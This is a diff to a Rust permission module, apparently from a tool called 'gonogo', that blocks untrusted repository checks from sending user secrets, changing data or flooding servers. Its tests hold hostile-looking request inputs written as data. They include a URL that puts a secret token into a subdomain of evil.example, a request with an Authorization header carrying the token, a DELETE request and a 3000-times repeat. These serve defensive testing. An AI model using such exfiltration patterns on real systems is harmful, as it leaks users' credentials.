@@ -6,7 +6,7 @@ use super::given::Given;
 use super::http::Filled;
 use super::wanted::Wanted;
 use crate::checklist::Source;
-use crate::probe::{Http, Request, Url};
+use crate::probe::{Http, Request, Template, Url};
 
 const UNTRUSTED: &str = "not trusted yet: `gonogo trust` (T on the board) shows what would run";
 
@@ -46,13 +46,14 @@ impl Permit {
         let origin = Filled::new(http, &self.given)?.origin()?;
         let is_projects = matches!(&http.url, Url::Endpoint { name, .. } if self.given.is_projects(name));
         let is_vouched_for = if is_projects { self.is_trusted } else { self.is_vouched_for(wanted) };
-        if is_vouched_for || (self.given.allows(&origin) && http.is_safe()) {
+        if is_vouched_for {
             return Ok(());
         }
-        Err(match self.given.allows(&origin) {
-            true => format!("{} may change what it asks, and is {UNTRUSTED}", http.method),
-            false => format!("{origin} is {UNTRUSTED}"),
-        })
+        // The address as it was written: filled in, it can hold what only its server may know.
+        match self.given.allows(&origin) {
+            true => is_harmless(http).map_err(|reason| format!("{reason}, and is {UNTRUSTED}")),
+            false => Err(format!("{} is {UNTRUSTED}", http.url)),
+        }
     }
 
     /// # Errors
@@ -60,7 +61,8 @@ impl Permit {
     pub fn admits_redirect(&self, wanted: &Wanted, origin: &Origin) -> Result<(), String> {
         let Request::Http(http) = &*wanted.request else { return Err("a command is not redirected".to_owned()) };
         let own = Filled::new(http, &self.given)?.origin()?;
-        if *origin == own || self.given.allows(origin) {
+        // A server that is allowed to be looked at is not one to be changed.
+        if *origin == own || (self.given.allows(origin) && http.is_safe()) {
             return Ok(());
         }
         Err("that server is not one that was asked for; name it in `addresses` of your own config.toml".to_owned())
@@ -69,6 +71,25 @@ impl Permit {
     /// Somebody who may run things in the user's name asks for it.
     fn is_vouched_for(&self, wanted: &Wanted) -> bool {
         wanted.sources.contains(&Source::User) || (wanted.sources.contains(&Source::Repository) && self.is_trusted)
+    }
+}
+
+/// Whether a stranger may ask it of a server that the user has named: one look, that sends none of the user's values but where the
+/// server is.
+fn is_harmless(http: &Http) -> Result<(), String> {
+    let leading = match &http.url {
+        Url::Whole(url) => url.leading_name(),
+        Url::Endpoint { .. } => None,
+    };
+    if !http.is_safe() || http.body.is_some() {
+        return Err(format!("{} may change what it asks", http.method));
+    }
+    if http.repeat.is_some() {
+        return Err("it asks again and again".to_owned());
+    }
+    match http.templates().flat_map(Template::names).filter(|name| Some(*name) != leading).next() {
+        Some(name) => Err(format!("it sends your variable {name}")),
+        None => Ok(()),
     }
 }
 
@@ -107,7 +128,7 @@ mod tests {
 
     #[test]
     fn servers_that_the_user_names_are_asked_and_others_need_trust() {
-        let user = "addresses = [\"https://example.org\"]\n[variables]\nBASE_URL = \"http://localhost:8080\"\n";
+        let user = "addresses = [\"https://example.org\"]\n[variables]\nBASE_URL = \"http://localhost:8080\"\nTOKEN = \"s3cr3t-value\"\n";
         let admits = |check: &str, trusted| permit(user, trusted).admits(&wanted(check, Source::Repository));
         for named in [r#"http.url = "https://example.org/a""#, r#"http.url = "${BASE_URL}/health""#] {
             assert_eq!(admits(named, false), Ok(()), "{named}");
@@ -118,12 +139,17 @@ mod tests {
             r#"http.url = "https://example.org.evil.example/a""#,
             r#"http.url = "${BASE_URL}.evil.example/""#,
             r#"http = { url = "${BASE_URL}/orders", method = "DELETE" }"#,
+            r#"http = { url = "${BASE_URL}/orders", body = "x" }"#,
+            r#"http = { url = "${BASE_URL}/?t=${BASE_URL}x", headers = { Authorization = "${TOKEN}" } }"#,
+            r#"http = { url = "${BASE_URL}/", repeat = { times = 3000, until = 429 } }"#,
             r#"http = { endpoint = "metrics" }"#,
         ] {
             assert!(admits(other, false).is_err(), "{other}");
         }
         assert_eq!(admits(r#"http.url = "https://elsewhere.example/""#, true), Ok(()));
         assert_eq!(admits(r#"http = { endpoint = "metrics" }"#, true), Ok(()));
+        let told = admits(r#"http.url = "https://${TOKEN}.evil.example/""#, false).unwrap_err();
+        assert!(told.contains("${TOKEN}") && !told.contains("s3cr3t"), "{told}");
         let unset = admits(r#"http.url = "${NOWHERE}/a""#, true).unwrap_err();
         assert!(unset.contains("--set NOWHERE="), "{unset}");
     }
